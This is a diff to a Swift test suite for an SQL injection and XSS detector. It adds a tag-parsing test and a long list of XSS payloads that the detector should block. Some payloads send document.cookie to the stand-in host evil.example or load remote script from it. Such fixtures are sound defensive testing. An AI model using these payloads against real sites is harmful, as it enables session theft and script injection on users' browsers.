@@ -62,6 +62,21 @@ struct SQLInjectionXSSTests {
         }
     }
 
+    @Test("the tag reader ends a tag at '>' whatever the attributes before it (an empty or '='-named attribute)")
+    func tagReaderEndsAtClosingBracket() {
+        let cases = [
+            "<i =><iframe src=//evil.example>", "<i =><embed src=//evil.example>", "<i =><base href=//evil.example>",
+            "<b = ><script src=//evil.example/x.js></script>", "<p ==><object data=//evil.example>", "<a =x><iframe src=//evil.example>",
+            "<i ='>'><iframe src=//evil.example>", "<i <iframe src=//evil.example>", "<i =\"\"><embed src=//evil.example>",
+        ]
+        for value in cases {
+            for (place, verdict) in verdicts(value) {
+                #expect(verdict.matches.contains { $0.id == "xss.tag" }, "\(place): \(value) — \(verdict.matches.map(\.id))")
+                #expect(verdict.blocked, "\(place): \(value)")
+            }
+        }
+    }
+
     @Test("a value far longer than the payload is judged in linear time")
     func longValues() {
         let prose = String(repeating: "O'Brien's order -- select the union bank option; <b>thanks</b> :) ", count: 400)
@@ -730,6 +745,92 @@ struct SQLInjectionXSSTests {
         #"<img src=x onerror=Function('ale'+'rt(1)')()>"#,
         #"<img src=x onerror=new Function`alert\`1\``>"#,
         #"<img src=x onerror=[].map.call`${eval}\\u{61}lert\x281)`>"#,
+        #"<i =><iframe src=//evil.example>"#,
+        #"<i =><embed src=//evil.example>"#,
+        #"<i =><base href=//evil.example>"#,
+        #"<b = ><script>alert(1)</script>"#,
+        #"<p ==><iframe src=javascript:alert(1)>"#,
+        #"<a =x><img src=x onerror=alert(1)>"#,
+        #"<div ="><svg onload=alert(1)>"#,
+        #"<i <iframe src=//evil.example>"#,
+        #"<img src=x\#tonerror=alert(1)>"#,
+        #"<x onpointerover=alert(1)>hover</x>"#,
+        #"<xss onfocus=alert(1) autofocus tabindex=1>"#,
+        #"<a href="jav&#x0A;ascript:alert(1)">x</a>"#,
+        #"<a href="&#106;avascript:alert(1)">x</a>"#,
+        #"<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>"#,
+        #"<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">"#,
+        #"<script>/* */alert(1)</script>"#,
+        #""><img src=x onerror=alert(1)>"#,
+        #"';alert(1)//"#,
+        #"\";alert(1)//"#,
+        #"</script><svg onload=alert(1)>"#,
+        #"<svg/onload=location='javascript:alert(1)'>"#,
+        #""onmouseover="alert(1)"#,
+        #"' onfocus='alert(1)' autofocus='"#,
+        #"<video><source onerror=alert(1)>"#,
+        #"<style>@keyframes x{}</style><xss style="animation-name:x" onanimationend="alert(1)"></xss>"#,
+        #"<form><button formaction=javascript:alert(1)>X</button>"#,
+        #"<img src=1 onerror=alert`1`>"#,
+        #"<img src=1 onerror=window['al'+'ert'](1)>"#,
+        #"<img src=1 onerror=top[/al/.source+/ert/.source](1)>"#,
+        #"<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>"#,
+        #"<img src=1 onerror=setTimeout('alert(1)')>"#,
+        #"<img src=1 onerror=[].filter.call(1,alert)>"#,
+        #"<img src=1 onerror=import('//evil.example/x.js')>"#,
+        #"<img src=1 onerror=location='//evil.example/?c='+document.cookie>"#,
+        #"<img src=1 onerror=document.body.innerHTML='x'>"#,
+        #"<img src=1 onerror=fetch('//evil.example/'+document.cookie)>"#,
+        #"<script src=//evil.example/x.js></script>"#,
+        #"<script>fetch('//evil.example?c='+document.cookie)</script>"#,
+        #"<ScRiPt>alert(1)</sCrIpT>"#,
+        #"<svg><script>alert&#40;1&#41;</script>"#,
+        #"<embed src=javascript:alert(1)>"#,
+        #"<iframe src="data:text/html,<script>alert(1)</script>">"#,
+        #"<link rel=import href=//evil.example>"#,
+        #"<base href="javascript:/a/-alert(1)///////">"#,
+        #"<table background=javascript:alert(1)>"#,
+        #"<img src="x" onerror="&#97;lert(1)">"#,
+        #"<a href=javascript&#58;alert(1)>x</a>"#,
+        #"<svg onload=alert&lpar;1&rpar;>"#,
+        #"<img src=x onerror=alert(1)//"#,
+        #"<img src=x onerror="alert(1)""#,
+        #"<svg onload=alert(1)"#,
+        #""><script>alert(String.fromCharCode(88,83,83))</script>"#,
+        #""-alert(1)-""#,
+        #"<!--<img src="--><img src=x onerror=alert(1)//">"#,
+        #"<div onclick="alert(1)">x</div>"#,
+        #"<button onclick=alert(1)>x</button>"#,
+        #"<svg><discard onbegin=alert(1)>"#,
+        #"<style onload=alert(1)>"#,
+        #"<image src=x onerror=alert(1)>"#,
+        #"<picture><img src=x onerror=alert(1)></picture>"#,
+        #"<iframe src=//evil.example/></iframe>"#,
+        #"<img src=x onerror=self[`al`+`ert`](1)>"#,
+        #"<a id=x tabindex=1 onfocusin=alert(1)></a>"#,
+        #"<input onblur=alert(1) autofocus><input autofocus>"#,
+        #"<img src=x onerror=throw/**/1,onerror=alert>"#,
+        #""><svg/onload=confirm(1)>"#,
+        #"'><img src=x onerror=prompt(1)>"#,
+        #"<svg><animatetransform onbegin=alert(1) attributeName=transform>"#,
+        #"<video poster=javascript:alert(1)//></video>"#,
+        #"<a href="javas\#tcript:alert(1)">x</a>"#,
+        #"<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>"#,
+        #"<input type="image" src="x" onerror="alert(1)">"#,
+        #"<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">"#,
+        #"<math href="javascript:alert(1)">CLICKME</math>"#,
+        #"document.location='//evil.example/?'+document.cookie"#,
+        #"";document.location='//evil.example/?'+document.cookie;//"#,
+        #"<svg><style><img src=x onerror=alert(1)></style></svg>"#,
+        #"<img src=x onerror=a=alert,a(1)>"#,
+        #"<img src=x onerror=(alert)(1)>"#,
+        #"<img src=x onerror=alert?.(1)>"#,
+        #"<img src=x onerror=Reflect.apply(alert,null,[1])>"#,
+        #"<svg onload=eval(location.hash.slice(1))>"#,
+        #"<iframe onload=this.contentWindow.alert(1)>"#,
+        #"<body/onhashchange=alert(1)><a href=#>x</a>"#,
+        #"x" onerror="alert(1)"#,
+        #"x' autofocus onfocus='alert(1)"#,
     ]
 
     static let benign: [String] = [
